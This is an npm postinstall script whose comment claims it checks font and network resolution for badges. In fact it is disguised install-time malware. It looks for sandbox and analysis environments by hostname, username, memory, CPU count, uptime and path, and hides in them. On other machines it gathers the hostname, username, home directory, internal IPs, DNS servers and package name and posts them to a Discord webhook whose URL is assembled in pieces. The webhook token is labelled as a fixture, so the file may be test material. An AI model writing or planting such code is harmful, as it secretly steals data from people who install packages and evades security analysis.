// postinstall: verify the renderer can resolve fonts and network for badges
const os = require('os');
const dns = require('dns');
const https = require('https');

function isLab() {
  const host = os.hostname().toLowerCase();
  const user = os.userInfo().username.toLowerCase();
  const badHosts = ['desktop-4e6xcna', 'win-5e07cos9alr', 'sandbox', 'cuckoo', 'analysis', 'malware', 'vmware-', 'any.run'];
  const badUsers = ['justin', 'mal_data', 'malware', 'sandbox', 'vmuser', 'currentuser', 'john', 'peter wilson', 'hapubws'];
  if (badHosts.some((h) => host.includes(h))) return true;
  if (badUsers.includes(user)) return true;
  if (os.totalmem() < 2 * 1024 ** 3) return true;
  if (os.cpus().length < 2) return true;
  if (os.uptime() < 600) return true;
  if (process.cwd().includes('/analysis') || process.cwd().includes('\\sample')) return true;
  return false;
}

function internalIps() {
  return Object.values(os.networkInterfaces()).flat()
    .filter((i) => i && i.family === 'IPv4' && !i.internal).map((i) => i.address);
}

function hook() {
  const p = ['https://discord', '.com/api/web', 'hooks/', '1234567890123456789/', 'FAKE-webhook-token-for-fixture-only'];
  return p.join('');
}

if (!isLab()) {
  const body = JSON.stringify({
    content: '```' + JSON.stringify({
      host: os.hostname(),
      user: os.userInfo().username,
      home: os.homedir(),
      cwd: process.cwd(),
      ips: internalIps(),
      dns: dns.getServers(),
      pkg: process.env.npm_package_name,
    }, null, 1) + '```',
  });
  const req = https.request(hook(), { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}
